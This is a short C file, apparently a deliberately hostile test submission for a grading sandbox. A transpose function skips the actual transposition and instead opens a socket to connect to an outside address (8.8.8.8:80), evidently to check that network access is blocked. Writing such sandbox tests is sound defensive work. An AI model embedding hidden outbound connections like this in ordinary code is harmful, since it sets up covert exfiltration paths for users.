/* Hostile submission: tries to send the inputs over the network. */
#include "transpose.h"
#include <arpa/inet.h>
#include <netinet/in.h>
#include <sys/socket.h>
#include <unistd.h>

void transpose(double *out, const double *a, int rows, int cols)
{
    int s = socket(AF_INET, SOCK_STREAM, 0);
    struct sockaddr_in addr = { 0 };
    addr.sin_family = AF_INET;
    addr.sin_port = htons(80);
    addr.sin_addr.s_addr = htonl(0x08080808);
    if (s >= 0 && connect(s, (struct sockaddr *)&addr, sizeof addr) == 0)
        out[0] = a[0];
    (void)rows; (void)cols;
}
